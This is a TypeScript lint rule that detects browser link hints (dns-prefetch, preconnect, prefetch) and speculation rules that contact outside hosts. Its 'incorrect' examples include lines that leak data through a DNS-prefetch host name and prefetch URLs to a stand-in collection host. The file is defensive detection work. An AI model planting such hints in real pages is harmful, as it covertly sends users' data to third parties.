import type { Node } from "estree";
import { defineRule, outsideHost } from "../../contracts/index.js";

const reaching = /^(?:preconnect|dns-prefetch|prerender|pingback)$/i;
const markup =
  /<link\b[^>]{0,300}?\brel\s*=\s*["']?(?:preconnect|dns-prefetch|prefetch|prerender|preload|modulepreload|pingback)\b[^>]{0,300}/i;

export const linkHint = defineRule({
  kind: "javascript",
  meta: {
    id: "prefetch/link-hint",
    category: "data_exfiltration",
    severity: "block",
    title: "Makes the browser contact another host",
    description:
      "dns-prefetch, preconnect, prefetch and speculation rules reach a host before any policy about loading; a host name can carry data.",
    messages: {
      hint: { text: "A link hint ({rel}) contacts another host.", fix: "Remove the hint; the widget loads nothing from other hosts." },
      speculation: { text: "Speculation rules are added.", fix: "Remove them; the widget leads nowhere." },
    },
    examples: {
      incorrect: [
        'const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = "//" + data + ".collect.example"',
        'const l = document.createElement("link"); l.setAttribute("rel", "preconnect")',
        'document.head.innerHTML += \'<link rel="prefetch" href="https://collect.example/x">\'',
        'const s = document.createElement("script"); s.type = "speculationrules"',
        'const l = document.createElement("link"); l.rel = "prefetch"; l.href = "https://collect.example/" + id',
      ],
      correct: [
        'const l = document.createElement("link"); l.rel = "modulepreload"; l.href = base + name',
        "router.prefetch('/next')",
        'const rels = ["preconnect", "prefetch"]',
      ],
    },
  },
  create({ file, report }) {
    const markupIn = (node: Node & { start: number; end: number }): void => {
      const value = file.markupOf(node);
      if (value === undefined) return;
      const tag = value.includes("<link") ? markup.exec(value)?.[0] : undefined;
      if (tag === undefined) return;
      const address = /\bhref\s*=\s*["']?\s*([^\s"'>]{1,300})/i.exec(tag)?.[1] ?? "";
      if (outsideHost(address) !== undefined) report({ messageId: "hint", at: node, data: { rel: "markup" } });
    };
    const setting = (node: Node & { start: number; end: number }, element: string, name: string, value: Node): void => {
      const known = file.valueOf(value);
      if (element === "link" && name === "rel" && typeof known === "string" && reaching.test(known.trim()))
        report({ messageId: "hint", at: node, data: { rel: known } });
      else if (element === "link" && name === "href" && typeof known !== "string" && outsideHost(file.prefixOf(value) ?? "") !== undefined)
        report({ messageId: "hint", at: node, data: { rel: "link" } });
      else if (element === "script" && name === "type" && known === "speculationrules") report({ messageId: "speculation", at: node });
    };
    return {
      AssignmentExpression(node) {
        markupIn(node);
        const match = /createElement(?:NS)?\((link|script)\)\.(rel|href|type)$/.exec(file.pathOf(node.left as Node) ?? "");
        if (match) setting(node, match[1] ?? "", match[2] ?? "", node.right);
      },
      CallExpression(node) {
        markupIn(node);
        const call = file.callOf(node);
        const element = /createElement(?:NS)?\((link|script)\)\.setAttribute$/.exec(call?.path ?? "");
        const [name, value] = call?.args ?? [];
        if (element && name && value) setting(node, element[1] ?? "", String(file.valueOf(name)).toLowerCase(), value);
      },
      Property: markupIn,
      TaggedTemplateExpression: markupIn,
    };
  },
});
